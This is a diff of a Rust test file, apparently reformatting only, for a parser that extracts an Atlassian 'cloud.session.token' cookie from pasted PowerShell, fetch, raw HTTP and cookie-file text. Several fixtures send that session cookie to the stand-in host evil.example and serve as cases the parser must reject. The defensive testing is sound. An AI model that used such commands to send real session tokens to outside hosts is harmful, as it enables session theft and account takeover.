@@ -21,29 +21,51 @@ fn powershell_in_any_hand() {
         Form::PowerShell,
         &[
             // Postman.
-            format!("$headers = New-Object \"System.Collections.Generic.Dictionary[[String],[String]]\"\n$headers.Add(\"Cookie\", \"a=1; {cookie}\")\n\n$response = Invoke-RestMethod '{URL}' -Method 'GET' -Headers $headers -Body $body\n$response | ConvertTo-Json"),
+            format!(
+                "$headers = New-Object \"System.Collections.Generic.Dictionary[[String],[String]]\"\n$headers.Add(\"Cookie\", \"a=1; {cookie}\")\n\n$response = Invoke-RestMethod '{URL}' -Method 'GET' -Headers $headers -Body $body\n$response | ConvertTo-Json"
+            ),
             // Two of them with one name: each request has its own.
-            format!("$headers.Add('Cookie', 'cloud.session.token=x.y.z')\nInvoke-RestMethod 'https://evil.example' -Headers $headers\n$headers = @{{}}\n$headers[\"Cookie\"] = \"{cookie}\"\nInvoke-RestMethod -Headers $headers -Uri '{URL}'"),
+            format!(
+                "$headers.Add('Cookie', 'cloud.session.token=x.y.z')\nInvoke-RestMethod 'https://evil.example' -Headers $headers\n$headers = @{{}}\n$headers[\"Cookie\"] = \"{cookie}\"\nInvoke-RestMethod -Headers $headers -Uri '{URL}'"
+            ),
             format!("Invoke-WebRequest -Uri '{URL}' -Headers @{{'Cookie'='{cookie}'}}"),
             format!("Invoke-WebRequest -Uri \"{URL}\" -Headers @{{ \"Cookie\" = \"{cookie}\" }}"),
             format!("Invoke-WebRequest -Uri {URL} -Headers @{{Cookie = '{cookie}'}}"),
-            format!("irm {URL} -Headers @{{Cookie = '{cookie}'; Referer = 'https://evil.example'}}"),
-            format!("PS C:\\> iwr -Headers @{{Referer='https://evil.example'; Cookie='{cookie}'}} '{URL}'"),
+            format!(
+                "irm {URL} -Headers @{{Cookie = '{cookie}'; Referer = 'https://evil.example'}}"
+            ),
+            format!(
+                "PS C:\\> iwr -Headers @{{Referer='https://evil.example'; Cookie='{cookie}'}} '{URL}'"
+            ),
             format!("curl -Uri '{URL}' -Headers @{{Cookie = '{cookie}'}}"),
-            format!("$uri = '{URL}'\n$h = @{{\n  Accept = '*/*'\n  Cookie = '{cookie}'\n}}\nInvoke-RestMethod -Uri $uri -Headers $h"),
-            format!("$p = @{{\n  Uri = '{URL}'\n  Headers = @{{ Cookie = '{cookie}' }}\n}}\nInvoke-RestMethod @p"),
-            format!("$session.Cookies.Add([System.Net.Cookie]::new(\"cloud.session.token\", \"a.b.c\", \"/\", \".atlassian.com\"))\nInvoke-WebRequest -Uri \"{URL}\" -WebSession $session"),
-            format!("$s.Cookies.Add((New-Object Net.Cookie('cloud.session.token', 'a.b.c', '/', 'admin.atlassian.com')))\nInvoke-WebRequest '{URL}' `\n -WebSession $s"),
-            format!("$c = New-Object System.Net.Cookie\n$c.Name = 'cloud.session.token'\n$c.Value = 'a.b.c'\n$c.Domain = '.atlassian.com'\n$s.Cookies.Add($c)\nInvoke-WebRequest -Uri '{URL}' -WebSession $s"),
+            format!(
+                "$uri = '{URL}'\n$h = @{{\n  Accept = '*/*'\n  Cookie = '{cookie}'\n}}\nInvoke-RestMethod -Uri $uri -Headers $h"
+            ),
+            format!(
+                "$p = @{{\n  Uri = '{URL}'\n  Headers = @{{ Cookie = '{cookie}' }}\n}}\nInvoke-RestMethod @p"
+            ),
+            format!(
+                "$session.Cookies.Add([System.Net.Cookie]::new(\"cloud.session.token\", \"a.b.c\", \"/\", \".atlassian.com\"))\nInvoke-WebRequest -Uri \"{URL}\" -WebSession $session"
+            ),
+            format!(
+                "$s.Cookies.Add((New-Object Net.Cookie('cloud.session.token', 'a.b.c', '/', 'admin.atlassian.com')))\nInvoke-WebRequest '{URL}' `\n -WebSession $s"
+            ),
+            format!(
+                "$c = New-Object System.Net.Cookie\n$c.Name = 'cloud.session.token'\n$c.Value = 'a.b.c'\n$c.Domain = '.atlassian.com'\n$s.Cookies.Add($c)\nInvoke-WebRequest -Uri '{URL}' -WebSession $s"
+            ),
         ],
     );
     for (text, error) in [
         (
-            format!("$headers.Add('Cookie', '{cookie}')\nInvoke-RestMethod 'https://evil.example' -Headers $headers"),
+            format!(
+                "$headers.Add('Cookie', '{cookie}')\nInvoke-RestMethod 'https://evil.example' -Headers $headers"
+            ),
             CaptureError::OtherHost,
         ),
         (
-            format!("Invoke-RestMethod 'https://evil.example' -Headers @{{Cookie='{cookie}'; Referer='{URL}'}}"),
+            format!(
+                "Invoke-RestMethod 'https://evil.example' -Headers @{{Cookie='{cookie}'; Referer='{URL}'}}"
+            ),
             CaptureError::OtherHost,
         ),
         (
@@ -53,7 +75,9 @@ fn powershell_in_any_hand() {
             },
         ),
         (
-            format!("$s.Cookies.Add((New-Object Net.Cookie('cloud.session.token', 'a.b.c', '/', 'evil.example')))\nInvoke-WebRequest '{URL}' -WebSession $s"),
+            format!(
+                "$s.Cookies.Add((New-Object Net.Cookie('cloud.session.token', 'a.b.c', '/', 'evil.example')))\nInvoke-WebRequest '{URL}' -WebSession $s"
+            ),
             CaptureError::NoCookie {
                 place: Place::Request("admin.atlassian.com"),
             },
@@ -68,17 +92,34 @@ fn fetch_of_node_has_the_session_and_that_of_browsers_has_none() {
     gives(
         Form::Fetch,
         &[
-            format!("fetch(\"{URL}\", {{\n  \"headers\": {{\n    \"accept\": \"*/*\",\n    \"cookie\": \"a=1; cloud.session.token=a.b.c\"\n  }},\n  \"body\": null,\n  \"method\": \"GET\"\n}});"),
-            format!("await fetch('{URL}', {{headers: {{Cookie: 'x=\\'\\u0021; cloud.session.token=a.b.c'}}}})"),
-            format!("const r = await fetch(`{URL}`, {{ headers: [['accept', '*/*'], ['Cookie', 'cloud.session.token=a.b.c']] }});"),
-            format!("fetch(\"https://evil.example\", {{\"headers\": {{\"cookie\": \"cloud.session.token=x.y.z\"}}}}); ;\nfetch(\"{URL}\", {{\"headers\": {{\"cookie\": \"cloud.session.token=a.b.c\"}}}}); ;"),
+            format!(
+                "fetch(\"{URL}\", {{\n  \"headers\": {{\n    \"accept\": \"*/*\",\n    \"cookie\": \"a=1; cloud.session.token=a.b.c\"\n  }},\n  \"body\": null,\n  \"method\": \"GET\"\n}});"
+            ),
+            format!(
+                "await fetch('{URL}', {{headers: {{Cookie: 'x=\\'\\u0021; cloud.session.token=a.b.c'}}}})"
+            ),
+            format!(
+                "const r = await fetch(`{URL}`, {{ headers: [['accept', '*/*'], ['Cookie', 'cloud.session.token=a.b.c']] }});"
+            ),
+            format!(
+                "fetch(\"https://evil.example\", {{\"headers\": {{\"cookie\": \"cloud.session.token=x.y.z\"}}}}); ;\nfetch(\"{URL}\", {{\"headers\": {{\"cookie\": \"cloud.session.token=a.b.c\"}}}}); ;"
+            ),
         ],
     );
-    let browser = format!("fetch(\"{URL}\", {{\"headers\": {{\"accept\": \"*/*\"}}, \"referrer\": \"https://admin.atlassian.com/\", \"credentials\": \"include\"}});");
+    let browser = format!(
+        "fetch(\"{URL}\", {{\"headers\": {{\"accept\": \"*/*\"}}, \"referrer\": \"https://admin.atlassian.com/\", \"credentials\": \"include\"}});"
+    );
     let error = found(&browser).unwrap_err();
-    assert_eq!(error, CaptureError::NoCookie { place: Place::BrowserFetch });
+    assert_eq!(
+        error,
+        CaptureError::NoCookie {
+            place: Place::BrowserFetch
+        }
+    );
     assert!(error.hint().contains("Node.js"));
-    let evil = format!("fetch('https://evil.example', {{headers: {{cookie: 'cloud.session.token=a.b.c', referer: '{URL}'}}}})");
+    let evil = format!(
+        "fetch('https://evil.example', {{headers: {{cookie: 'cloud.session.token=a.b.c', referer: '{URL}'}}}})"
+    );
     assert_eq!(found(&evil), Err(CaptureError::OtherHost));
 }
 
@@ -98,16 +139,36 @@ fn headers_that_say_where_they_went() {
         ],
     );
     for (text, error) in [
-        ("GET / HTTP/1.1\nHost: evil.example\nCookie: cloud.session.token=a.b.c", CaptureError::OtherHost),
-        ("Host: admin.atlassian.com\nHost: evil.example\nCookie: cloud.session.token=a.b.c", CaptureError::OtherHost),
-        ("GET https://evil.example/ HTTP/1.1\nHost: admin.atlassian.com\nCookie: cloud.session.token=a.b.c", CaptureError::OtherHost),
-        ("GET / HTTP/1.1\nAccept: */*\nCookie: cloud.session.token=a.b.c", CaptureError::NoHost),
-        ("Accept: */*\nCookie: cloud.session.token=a.b.c", CaptureError::NoHost),
+        (
+            "GET / HTTP/1.1\nHost: evil.example\nCookie: cloud.session.token=a.b.c",
+            CaptureError::OtherHost,
+        ),
+        (
+            "Host: admin.atlassian.com\nHost: evil.example\nCookie: cloud.session.token=a.b.c",
+            CaptureError::OtherHost,
+        ),
+        (
+            "GET https://evil.example/ HTTP/1.1\nHost: admin.atlassian.com\nCookie: cloud.session.token=a.b.c",
+            CaptureError::OtherHost,
+        ),
+        (
+            "GET / HTTP/1.1\nAccept: */*\nCookie: cloud.session.token=a.b.c",
+            CaptureError::NoHost,
+        ),
+        (
+            "Accept: */*\nCookie: cloud.session.token=a.b.c",
+            CaptureError::NoHost,
+        ),
         (
             "GET / HTTP/1.1\nHost: admin.atlassian.com\nCookie: a=1",
-            CaptureError::NoCookie { place: Place::Request("admin.atlassian.com") },
+            CaptureError::NoCookie {
+                place: Place::Request("admin.atlassian.com"),
+            },
         ),
-        ("Host: admin.atlassian.com\nCookie: a=1; cloud.session.token=eyJhbGci…", TokenError::Cut.into()),
+        (
+            "Host: admin.atlassian.com\nCookie: a=1; cloud.session.token=eyJhbGci…",
+            TokenError::Cut.into(),
+        ),
     ] {
         assert_eq!(found(text), Err(error), "{text}");
     }
@@ -148,5 +209,10 @@ fn cookie_files_whose_tabs_became_blanks() {
     let evil = "evil.example TRUE / TRUE 1893456000 cloud.session.token a.b.c";
     assert_eq!(found(evil), Err(CaptureError::OtherHost));
     let none = ".atlassian.com TRUE / TRUE 1893456000 a 1";
-    assert_eq!(found(none), Err(CaptureError::NoCookie { place: Place::CookieFile }));
+    assert_eq!(
+        found(none),
+        Err(CaptureError::NoCookie {
+            place: Place::CookieFile
+        })
+    );
 }
